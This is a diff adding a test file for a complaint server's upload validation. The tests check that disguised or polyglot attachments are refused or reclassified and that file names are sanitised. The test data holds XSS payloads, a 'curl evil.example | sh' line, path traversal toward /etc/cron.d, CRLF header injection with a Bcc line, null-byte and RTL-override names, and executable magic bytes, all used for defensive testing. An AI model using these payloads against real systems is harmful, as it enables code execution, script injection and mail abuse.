@@ -1,0 +1,78 @@
+import { describe, expect, test } from 'vitest';
+import { cleanFileName } from '../../server/submissions/read-attachments.ts';
+import { jpeg, pdf, png, shortComplaint } from '../support/complaints.ts';
+import { createPlaces } from '../support/engines.ts';
+import type { TestServer } from '../support/submissions.ts';
+import { createTestServer, errorsOf, sendComplaint } from '../support/submissions.ts';
+
+/** Files that are two things at once, or something else than they say. */
+const openPlace = createPlaces();
+let opened: Promise<TestServer> | undefined;
+const getServer = () => (opened ??= openPlace('sqlite').then((place) => createTestServer(place)));
+
+const bytes = (text: string) => new TextEncoder().encode(text);
+const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
+const script = '<script>alert(1)</script>';
+const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
+
+describe('a file of a complaint is refused that is', () => {
+  test.each<[string, string, Uint8Array]>([
+    ['a drawing', 'plan.svg', bytes(svg)],
+    ['a drawing with a declaration', 'plan.svg', bytes(`<?xml version="1.0"?>${svg}`)],
+    ['a drawing that is called a photograph', 'photo.png', bytes(svg)],
+    ['a page that is called a document', 'facture.pdf', bytes(`<!doctype html>${script}`)],
+    ['a page before a document', 'facture.pdf', join(bytes(script), pdf)],
+    ['a program of Windows', 'facture.pdf.exe', bytes('MZ\u0090\0\u0003\0\0\0')],
+    ['a program of Linux', 'facture.pdf', join(bytes('\x7fELF'), new Uint8Array(60))],
+    ['a script', 'facture.pdf', bytes('#!/bin/sh\ncurl evil.example | sh\n')],
+    ['an archive', 'facture.pdf', join(bytes('PK\x03\x04\x14\0'), new Uint8Array(60))],
+    ['a moving picture', 'photo.png', join(bytes('GIF89a'), new Uint8Array(30))],
+    [
+      'an old Office document',
+      'facture.pdf',
+      Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
+    ],
+    ['a document for printers', 'facture.pdf', bytes('%!PS-Adobe-3.0\n(r) file\n')],
+  ])('%s', async (_, name, content) => {
+    const server = await getServer();
+    const before = (await server.store.list()).length;
+    const response = await sendComplaint(server, shortComplaint, [{ name, bytes: content }]);
+    expect(response.status).toBe(415);
+    expect(await errorsOf(response)).toMatchObject([{ field: 'files' }]);
+    expect(await server.store.list()).toHaveLength(before);
+  });
+});
+
+describe('a file that is two things at once counts as the harmless one', () => {
+  test.each<[string, string, Uint8Array, string, string]>([
+    ['a document and a page', 'a.html', join(pdf, bytes(script)), 'application/pdf', 'a.html.pdf'],
+    ['a picture and a page', 'a.htm', join(png, bytes(script)), 'image/png', 'a.htm.png'],
+    ['a picture and a drawing', 'a.svg', join(jpeg, bytes(svg)), 'image/jpeg', 'a.svg.jpg'],
+    ['a picture and an archive', 'a.jar', join(png, bytes('PK\x03\x04')), 'image/png', 'a.jar.png'],
+  ])('%s', async (_, name, content, type, keptName) => {
+    const server = await getServer();
+    const response = await sendComplaint(server, shortComplaint, [{ name, bytes: content }]);
+    expect(response.status).toBe(201);
+    const { reference } = (await response.json()) as { reference: string };
+    expect(await server.store.readAttachments(reference)).toMatchObject([{ name: keptName, type }]);
+    for (const path of [`/storage/${keptName}`, `/api/reclamations/${reference}`]) {
+      expect((await server.app.request(path)).status).toBe(404);
+    }
+  });
+});
+
+describe('the name of a file', () => {
+  test.each([
+    ['leads to no other folder', '../../etc/cron.d/x.pdf', 'x.pdf'],
+    ['leads to no other folder of Windows', 'C:\\Windows\\x.pdf', 'x.pdf'],
+    ['hides no file', '.htaccess', 'htaccess.pdf'],
+    ['is not read backwards', 'facture\u202efdp.exe', 'facturefdp.exe.pdf'],
+    ['ends no line', 'a\r\nBcc: x@evil.example\r\n.pdf', 'aBcc x@evil.example.pdf'],
+    ['ends nowhere before its end', 'a.exe\0.pdf', 'a.exe.pdf'],
+    ['names no stream', 'a.pdf::$DATA', 'a.pdf$DATA.pdf'],
+    ['is never empty', '...', 'piece-jointe-1.pdf'],
+    ['has an end', `${'é'.repeat(300)}.pdf`, `${'é'.repeat(100)}.pdf`],
+  ])('%s', (_, name, kept) => {
+    expect(cleanFileName(name, 'application/pdf', 0)).toBe(kept);
+  });
+});
